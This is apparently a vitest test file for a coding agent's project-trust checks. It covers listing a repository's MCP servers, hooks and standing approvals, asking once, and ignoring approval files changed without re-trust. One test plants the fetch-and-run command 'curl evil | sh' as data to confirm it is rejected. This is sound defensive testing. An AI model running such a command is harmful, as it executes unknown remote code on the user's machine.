import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
    type TrustAnswer,
    describeProjectConfig,
    settleProjectTrust,
    summarizeInventory,
} from "../../src/cli/project-trust";
import { createProjectApprovalSettings } from "../../src/storage/project-settings";
import { createTrustStore, readProjectConfig } from "../../src/storage/trust";

let repo: string;
let data: string;
beforeEach(() => {
    repo = mkdtempSync(join(tmpdir(), "north-trust-unit-"));
    data = mkdtempSync(join(tmpdir(), "north-trust-data-"));
});
afterEach(() => {
    rmSync(repo, { recursive: true, force: true });
    rmSync(data, { recursive: true, force: true });
});

function put(path: string, value: unknown): void {
    mkdirSync(join(repo, path, ".."), { recursive: true });
    writeFileSync(join(repo, path), typeof value === "string" ? value : JSON.stringify(value));
}

/** A decider that records being asked and answers `answer`. */
function decider(answer: TrustAnswer) {
    const asked: number[] = [];
    return {
        asked,
        decide: async (inventory: { items: unknown[] }) => {
            asked.push(inventory.items.length);
            return answer;
        },
    };
}

describe("what a project would run, for the trust question", () => {
    it("lists each server, hook and approval as configured, variables unexpanded", () => {
        put(".mcp.json", {
            mcpServers: {
                tools: { command: "npx", args: ["-y", "pkg@latest"], env: { TOKEN: "${T}" } },
                remote: { type: "http", url: "https://x.example/mcp", headers: { A: "${KEY}" } },
            },
        });
        put(".claude/settings.json", {
            hooks: {
                PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "./check" }] }],
            },
        });
        put(".north/autoaccept.json", { shellAutoApprove: true, editsAutoAccept: false });
        put(".north/allowlist.json", { allowedCommands: ["npm test"] });
        const inventory = describeProjectConfig(repo, readProjectConfig(repo));
        expect(inventory.items.map((i) => `${i.kind} ${i.source}: ${i.text}`)).toEqual([
            "mcp .mcp.json: tools: runs npx -y pkg@latest (env: TOKEN)",
            "mcp .mcp.json: remote: connects to https://x.example/mcp (headers: A)",
            "hook .claude/settings.json: PreToolUse Bash: runs ./check",
            "approval .north/autoaccept.json: runs every command without asking",
            "approval .north/allowlist.json: runs without asking: npm test",
        ]);
        expect(summarizeInventory(inventory)).toBe(
            "2 MCP servers (.mcp.json), 1 hook (.claude/settings.json), 2 standing approvals (.north/autoaccept.json, .north/allowlist.json)"
        );
    });

    it("lists a project's status-line command, from North's file or Claude Code's", () => {
        put(".north/settings.json", { statusLine: { type: "command", command: "./status.sh" } });
        put(".claude/settings.json", { statusLine: { type: "command", command: "cc-status" } });
        const inventory = describeProjectConfig(repo, readProjectConfig(repo));
        expect(inventory.items.map((i) => `${i.kind} ${i.source}: ${i.text}`)).toEqual([
            "status .north/settings.json: runs ./status.sh",
            "status .claude/settings.json: runs cc-status",
        ]);
        expect(summarizeInventory(inventory)).toBe(
            "2 status-line commands (.north/settings.json, .claude/settings.json)"
        );
    });

    it("an invalid file is still something to trust, not silently nothing", () => {
        put(".mcp.json", "{ not json");
        const inventory = describeProjectConfig(repo, readProjectConfig(repo));
        expect(inventory.items).toHaveLength(1);
    });
});

describe("settling trust at start", () => {
    it("asks nothing in a project without gated files", async () => {
        const { asked, decide } = decider("untrusted");
        const result = await settleProjectTrust(repo, createTrustStore(data), decide);
        expect(asked).toEqual([]);
        expect(result.trusted).toBe(true);
    });

    it("asks once: a trusted answer is remembered for exactly these files", async () => {
        put(".north/settings.json", {
            hooks: { Stop: [{ hooks: [{ type: "command", command: "x" }] }] },
        });
        const store = createTrustStore(data);
        const first = decider("trust");
        expect((await settleProjectTrust(repo, store, first.decide)).trusted).toBe(true);
        expect(first.asked).toEqual([1]);

        const second = decider("untrusted");
        expect((await settleProjectTrust(repo, store, second.decide)).trusted).toBe(true);
        expect(second.asked).toEqual([]);

        put(".north/settings.json", {
            hooks: { Stop: [{ hooks: [{ type: "command", command: "y" }] }] },
        });
        const third = decider("untrusted");
        expect((await settleProjectTrust(repo, store, third.decide)).trusted).toBe(false);
        expect(third.asked).toEqual([1]);
    });

    it("--trust (trust-once) is not remembered", async () => {
        put(".north/allowlist.json", { allowedCommands: ["make"] });
        const store = createTrustStore(data);
        await settleProjectTrust(repo, store, decider("trust-once").decide);
        const next = decider("untrusted");
        expect((await settleProjectTrust(repo, store, next.decide)).trusted).toBe(false);
        expect(next.asked).toEqual([1]);
    });

    it("a damaged trust file trusts nothing and is rewritten on the next decision", async () => {
        put(".north/allowlist.json", { allowedCommands: ["make"] });
        mkdirSync(data, { recursive: true });
        writeFileSync(join(data, "trusted-projects.json"), "{ broken");
        const store = createTrustStore(data);
        const asked = decider("trust");
        await settleProjectTrust(repo, store, asked.decide);
        expect(asked.asked).toEqual([1]);
        expect(store.isTrusted(repo, readProjectConfig(repo).fingerprint!)).toBe(true);
    });
});

describe("standing approvals under trust", () => {
    it("the user's local-scope 'always' in a trusted project is saved and keeps the project trusted", async () => {
        const store = createTrustStore(data);
        const decision = await settleProjectTrust(repo, store, decider("untrusted").decide);
        const settings = createProjectApprovalSettings(repo, decision.live);
        settings.allowCommand("npm test", "local");
        expect(
            JSON.parse(readFileSync(join(repo, ".north", "settings.local.json"), "utf8"))
        ).toEqual({ allowedCommands: ["npm test"] });
        // The next start: North's own write needs no new question.
        const next = decider("untrusted");
        const again = await settleProjectTrust(repo, store, next.decide);
        expect(next.asked).toEqual([]);
        const fresh = createProjectApprovalSettings(repo, again.live);
        expect(fresh.isCommandAllowed("npm test")).toBe(true);
    });

    it("in an untrusted project 'always' holds for the session only and writes nothing", async () => {
        put(".north/autoaccept.json", { shellAutoApprove: true });
        const decision = await settleProjectTrust(
            repo,
            createTrustStore(data),
            decider("untrusted").decide
        );
        const settings = createProjectApprovalSettings(repo, decision.live);
        expect(settings.isShellAutoApproved()).toBe(false);
        settings.allowCommand("make", "local");
        expect(settings.isCommandAllowed("make")).toBe(true);
        expect(existsSync(join(repo, ".north", "settings.local.json"))).toBe(false);
    });

    it("approval files changed behind North's back stop counting until trusted again", async () => {
        put(".north/settings.json", { allowedCommands: ["make"] });
        const store = createTrustStore(data);
        const decision = await settleProjectTrust(repo, store, decider("trust").decide);
        const settings = createProjectApprovalSettings(repo, decision.live);
        expect(settings.isCommandAllowed("make")).toBe(true);
        put(".north/settings.json", { allowedCommands: ["make", "curl evil | sh"] });
        expect(settings.isCommandAllowed("make")).toBe(false);
        expect(settings.isCommandAllowed("curl evil | sh")).toBe(false);
        put(".north/settings.local.json", { shellAutoApprove: true });
        expect(settings.isShellAutoApproved()).toBe(false);
    });
});
